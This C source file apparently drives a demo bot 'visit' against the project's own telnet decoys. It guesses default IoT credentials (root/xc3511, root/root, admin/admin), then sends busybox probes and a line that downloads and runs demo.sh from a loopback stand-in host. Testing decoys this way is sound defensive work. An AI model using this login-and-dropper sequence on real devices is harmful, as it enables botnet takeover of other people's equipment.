#include "cli/demo/visit.h"

enum { IAC = 255, DO = 253, WILL = 251 };
enum { WONT = 252 };
enum { PHASE_USER, PHASE_PASSWORD, PHASE_RESULT, PHASE_SHELL };

/* The first suits cameras and recorders, the others routers: one of them fits each decoy. */
static const struct {
	const char *user, *password;
} dictionary[] = {{"root", "xc3511"}, {"root", "root"}, {"admin", "admin"}};
#define TRIES (sizeof dictionary / sizeof dictionary[0])

static const char *const lines[] = {
	"enable",
	"sh",
	"/bin/busybox DEMO",
	"cat /proc/mounts; /bin/busybox DEMO",
	"cd /tmp; wget http://127.20.255.1/demo.sh; chmod 777 demo.sh; sh demo.sh",
	"exit",
};
#define LINES (sizeof lines / sizeof lines[0])

void visit_begin(struct visit *v)
{
	*v = (struct visit){0};
}

const char *visit_login(const struct visit *v)
{
	static const char *const names[TRIES] = {"root/xc3511", "root/root", "admin/admin"};
	return names[v->tries < TRIES ? v->tries : TRIES - 1];
}

static void say(struct visit *v, const char *line)
{
	struct writer w = writer_of(v->said + v->said_count, sizeof v->said - v->said_count);
	write_text(&w, line);
	write_text(&w, "\r\n");
	v->said_count += writer_used(&w);
	v->heard_count = 0;
}

/* Refuses what the server asks of us and takes what it offers (RFC 854), as bots do. */
static void answer_option(struct visit *v, uint8_t verb, uint8_t option)
{
	const uint8_t answer[] = {IAC, verb == DO ? WONT : DO, option};
	if ((verb == DO || verb == WILL) && v->said_count + sizeof answer <= sizeof v->said) {
		memcpy(v->said + v->said_count, answer, sizeof answer);
		v->said_count += sizeof answer;
	}
}

static void hear_byte(struct visit *v, uint8_t byte)
{
	if (v->option_count == 2) {
		answer_option(v, v->option[1], byte);
		v->option_count = 0;
	} else if (v->option_count == 1 && byte >= WILL && byte != IAC) {
		v->option[v->option_count++] = byte;
	} else if (v->option_count == 0 && byte == IAC) {
		v->option[v->option_count++] = byte;
	} else {
		v->option_count = 0;
		if (v->heard_count == sizeof v->heard) /* what counts stands at the end */
			v->heard_count = 0;
		v->heard[v->heard_count++] = (char)byte;
	}
}

static bool heard(const struct visit *v, const char *word)
{
	return bytes_find((struct bytes){(const uint8_t *)v->heard, v->heard_count}, word) <
	       v->heard_count;
}

static bool heard_prompt(const struct visit *v)
{
	size_t n = v->heard_count;
	while (n && (v->heard[n - 1] == ' ' || v->heard[n - 1] == '\0'))
		n--;
	return n && strchr("$#>%", v->heard[n - 1]);
}

static void keep_greeting(struct visit *v)
{
	size_t from = v->heard_count, n = 0;
	while (from && v->heard[from - 1] != '\n' && v->heard[from - 1] != '\r')
		from--;
	for (size_t i = from; i < v->heard_count && n + 1 < sizeof v->greeting; i++)
		if (v->heard[i] >= ' ' && v->heard[i] <= '~')
			v->greeting[n++] = v->heard[i];
	while (n && v->greeting[n - 1] == ' ')
		n--;
	v->greeting[n] = '\0';
}

static enum visit_end step_result(struct visit *v, bool *moved)
{
	if (heard(v, "ncorrect") || heard(v, "ogin:") || heard(v, "sername:")) {
		v->phase = PHASE_USER;
		*moved = ++v->tries < TRIES;
		return *moved ? VISIT_GOES_ON : VISIT_REFUSED;
	}
	*moved = heard_prompt(v);
	if (*moved) {
		v->logged_in = true;
		v->phase = PHASE_SHELL;
	}
	return VISIT_GOES_ON;
}

static enum visit_end step(struct visit *v, bool *moved)
{
	*moved = false;
	switch (v->phase) {
	case PHASE_USER:
		if (!heard(v, "ogin:") && !heard(v, "sername:"))
			return VISIT_GOES_ON;
		if (!v->greeting[0])
			keep_greeting(v);
		say(v, dictionary[v->tries].user);
		break;
	case PHASE_PASSWORD:
		if (!heard(v, "assword:"))
			return VISIT_GOES_ON;
		say(v, dictionary[v->tries].password);
		break;
	case PHASE_RESULT:
		return step_result(v, moved);
	default:
		if (!heard_prompt(v))
			return VISIT_GOES_ON;
		say(v, lines[v->lines++]);
		return v->lines == LINES ? VISIT_DONE : VISIT_GOES_ON;
	}
	v->phase++;
	return VISIT_GOES_ON;
}

enum visit_end visit_hear(struct visit *v, struct bytes bytes)
{
	enum visit_end end = VISIT_GOES_ON;
	bool moved = true;
	for (size_t i = 0; i < bytes.len; i++)
		hear_byte(v, bytes.at[i]);
	while (moved && end == VISIT_GOES_ON)
		end = step(v, &moved);
	return end;
}
